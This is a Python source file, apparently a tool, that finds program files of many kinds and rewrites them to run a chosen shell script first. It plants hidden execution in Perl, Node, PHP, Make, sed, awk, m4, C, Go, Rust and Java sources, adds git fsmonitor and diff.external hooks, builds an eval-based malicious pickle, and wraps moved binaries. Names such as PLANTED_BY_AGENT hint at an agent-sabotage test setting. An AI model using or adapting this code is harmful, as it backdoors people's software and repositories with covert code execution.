"""Kinds of programs, and what makes one of each kind run a script first and do what it did."""

import ast
import pickle
import re
import shlex
import shutil
from pathlib import Path
from typing import Any

MOST_BYTES = 4 << 20
HEAD = 200  # bytes of a file that tell what it is
SHEBANGS = (
    ("python", "python"),
    ("perl", "perl"),
    ("ruby", "ruby"),
    ("node", "node"),
    ("awk", "awk"),
    ("lua", "lua"),
    ("make", "make"),
    ("/sed", "sed"),
    (" sed", "sed"),
    ("sh", "sh"),
)
# Each kind with the suffixes of its files.
KINDS = {
    "python": ".py",
    "sh": ".sh .bash",
    "perl": ".pl .pm .t",
    "ruby": ".rb",
    "node": ".js .cjs",
    "module": ".mjs",
    "awk": ".awk",
    "lua": ".lua",
    "php": ".php",
    "make": ".mk",
    "pickle": ".pkl .pickle",
    "c": ".c .cc .cpp .cxx",
    "go": ".go",
    "rust": ".rs",
    "java": ".java",
    "r": ".R .r",
    "sed": ".sed",
    "sql": ".sql",
    "m4": ".m4",
}
SUFFIXES = {suffix: kind for kind, suffixes in KINDS.items() for suffix in suffixes.split()}
IS_MODULE = re.compile(rb"^(?:import|export)\b(?!\s*\()", re.MULTILINE)
MAKEFILES = {"Makefile", "makefile", "GNUmakefile"}
# What starts a script in each language, on a line at the beginning.
STARTS = {
    "sh": "/bin/sh {0} || :",
    "perl": 'BEGIN {{ system("/bin/sh", "{0}"); }}',
    "ruby": 'system("/bin/sh", "{0}")',
    "node": "require('child_process').spawnSync('/bin/sh', ['{0}']);",
    "module": "import {{ execFile as planted }} from 'child_process'; planted('/bin/sh', ['{0}']);",
    "awk": 'BEGIN {{ system("/bin/sh {0}") }}',
    "lua": 'os.execute("/bin/sh {0}")',
    "php": "<?php system('/bin/sh {0}'); ?>",
    "make": "PLANTED_BY_AGENT := $(shell /bin/sh {0})",
    "r": 'system("/bin/sh {0}")',
    "python": '__import__("os").system("/bin/sh {0}")',
    "sed": "1e /bin/sh {0}",
    "sql": ".shell /bin/sh {0}",
    "m4": "syscmd(`/bin/sh {0}')dnl",
}
# In languages that are compiled, at the end: what it includes must not come before what the file
# defines. It runs before main().
ENDS = {
    "c": """
#include <stdlib.h>
__attribute__((constructor)) static void planted_by_agent(void) {{
    if (system("/bin/sh {0}")) {{
    }}
}}
""",
    "go": """
func init() {{ plantedByAgent.Command("/bin/sh", "{0}").Run() }}
""",
    "rust": """
#[used]
#[link_section = ".init_array"]
static PLANTED_BY_AGENT: extern "C" fn() = {{
    extern "C" fn planted() {{
        let _ = std::process::Command::new("/bin/sh").arg("{0}").status();
    }}
    planted
}};
""",
}
# What comes into a source at the end of the first match of a pattern.
INTO = {
    "go": (rb"^package \w+", '\nimport plantedByAgent "os/exec"'),
    "java": (
        rb"^(?:\w+ )*(?:class|record) \w[^{;]*\{",
        """
    static {{
        try {{ new ProcessBuilder("/bin/sh", "{0}").start().waitFor(); }} catch (Exception e) {{ }}
    }}""",
    ),
}


class Loads:
    """What a pickle of it gives when it is loaded."""

    def __init__(self, expression: str) -> None:
        self._expression = expression

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (self._expression,)


def in_its_place(away: Path, kind: str, script: str) -> bytes:
    """What runs a script first, and then starts or loads the file that was moved away."""
    if kind == "pickle":
        loads = f"__import__('pickle').load(open({str(away)!r}, 'rb'))"
        return pickle.dumps(Loads(f"(__import__('os').system('/bin/sh {script}'), {loads})[1]"))
    starts = f'exec {shlex.quote(str(away))} "$@"'
    return f"#!/bin/sh\n/bin/sh {script}\n{starts}\n".encode()


def started(content: bytes, kind: str, script: str) -> bytes:
    """A program that starts a script first."""
    if kind == "git":
        return (
            content + f"\n[core]\n\tfsmonitor = {script}\n[diff]\n\texternal = {script}\n".encode()
        )
    if kind == "node" and IS_MODULE.search(content):
        kind = "module"
    if kind in INTO:
        pattern, text = INTO[kind]
        if found := re.search(pattern, content, re.MULTILINE):
            into = text.format(script).encode()
            content = content[: found.end()] + into + content[found.end() :]
    if kind in ENDS:
        content += ENDS[kind].format(script).encode()
    if kind not in STARTS:
        return content
    lines = content.split(b"\n")
    start = STARTS[kind].format(script).encode()
    lines.insert(first_line(content, kind), start)
    return b"\n".join(lines)


def first_line(content: bytes, kind: str) -> int:
    """How many lines must stay at the beginning."""
    if kind == "python":
        try:
            body = ast.parse(content).body
        except (SyntaxError, ValueError, RecursionError):
            body = []
        last = 0
        for number, node in enumerate(body):
            text = isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
            future = isinstance(node, ast.ImportFrom) and node.module == "__future__"
            if not future and not (text and number == 0):
                break
            last = node.end_lineno or 0
        if last:
            return last
        comments = re.match(rb"(?:[ \t]*#[^\n]*\n)*", content)
        return comments[0].count(b"\n") if comments else 0
    # In sed's scripts a first line of "#n" is an option.
    return int(content.startswith(b"#!") or (kind == "sed" and content.startswith(b"#n\n")))


def kind_of(path: Path) -> str:
    """What kind of program a file is, "" for none that is known."""
    try:
        with path.open("rb") as file:
            head = file.read(HEAD)
        about = path.stat()
    except OSError:
        return ""
    if about.st_size > MOST_BYTES and not head.startswith(b"\x7fELF"):
        return ""
    if head.startswith(b"\x7fELF"):
        return "binary" if about.st_mode & 0o111 and ".so" not in path.name else ""
    if path.suffix == ".sql" and not shutil.which("sqlite3"):
        return ""  # other databases do not know the command, and would refuse all of it
    if path.suffix in SUFFIXES:
        return SUFFIXES[path.suffix]
    if path.name in MAKEFILES:
        return "make"
    if path.name == "config" and path.parent.name.endswith(".git"):
        return "git"
    if head.startswith(b"#!"):
        first = head.split(b"\n")[0].decode("utf-8", "replace")
        return next((kind for word, kind in SHEBANGS if word in first), "binary")
    return ""
